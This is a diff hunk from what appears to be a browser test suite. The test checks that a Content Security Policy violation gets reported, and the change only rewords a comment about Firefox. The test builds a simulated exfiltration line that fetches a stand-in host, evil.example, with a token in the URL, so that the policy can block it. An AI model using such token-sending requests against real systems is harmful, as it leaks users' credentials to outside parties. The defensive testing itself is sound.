@@ -209,7 +209,7 @@ test('a violation of the policy is reported @engines', async ({ page, pageConsol
   await expect(page.getByRole('heading', { name: 'Login to your account' })).toBeVisible();
   await started;
   const code = "fetch('https://evil.example/?token=eyJhbGciOi').catch(() => {})";
-  // Firefox logs a refusal before the page hears of it.
+  // Firefox logs a refusal before the page gets the event.
   await page.evaluate(`new Promise((resolve) => {
     addEventListener('securitypolicyviolation', () => resolve(), { once: true });
     setTimeout(() => { ${code} });
